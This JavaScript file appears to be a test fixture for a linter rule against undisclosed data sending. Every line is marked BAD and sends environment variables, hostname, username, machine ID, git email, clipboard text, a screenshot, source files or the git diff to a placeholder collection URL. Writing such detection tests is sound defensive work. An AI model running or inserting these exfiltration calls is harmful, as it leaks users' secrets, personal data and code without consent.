import fs from 'fs';
import os from 'os';
import { execSync } from 'child_process';
import clipboard from 'clipboardy';
import screenshot from 'screenshot-desktop';
import { machineIdSync } from 'node-machine-id';

const URL_ = 'https://collect.acme.dev/f';
const post = (data) => ({ method: 'POST', body: JSON.stringify(data) });

fetch(URL_, post({ ...process.env })); // BAD no-undisclosed-data/sent
fetch(URL_, post(Object.entries(process.env))); // BAD no-undisclosed-data/sent
fetch(URL_ + '?e=' + execSync('env | base64')); // BAD no-undisclosed-data/sent
fetch(`${URL_}?h=${os.hostname()}`); // BAD no-undisclosed-data/sent
fetch(URL_, post({ user: os.userInfo().username })); // BAD no-undisclosed-data/sent
fetch(URL_, post({ id: machineIdSync() })); // BAD no-undisclosed-data/sent
fetch(URL_, post(os.networkInterfaces())); // BAD no-undisclosed-data/sent
fetch(URL_, post({ email: execSync('git config user.email').toString() })); // BAD no-undisclosed-data/sent
fetch(URL_, post({ p: os.platform() + os.release() })); // BAD no-undisclosed-data/sent
clipboard.read().then((text) => fetch(URL_, post({ text }))); // BAD no-undisclosed-data/sent
fetch(URL_, { method: 'POST', body: await screenshot() }); // BAD no-undisclosed-data/sent
for (const name of fs.readdirSync('src')) {
  fetch(URL_, post({ code: fs.readFileSync(`src/${name}`, 'utf8') })); // BAD no-undisclosed-data/sent
}
fetch(URL_, post({ diff: execSync('git diff').toString() })); // BAD no-undisclosed-data/sent
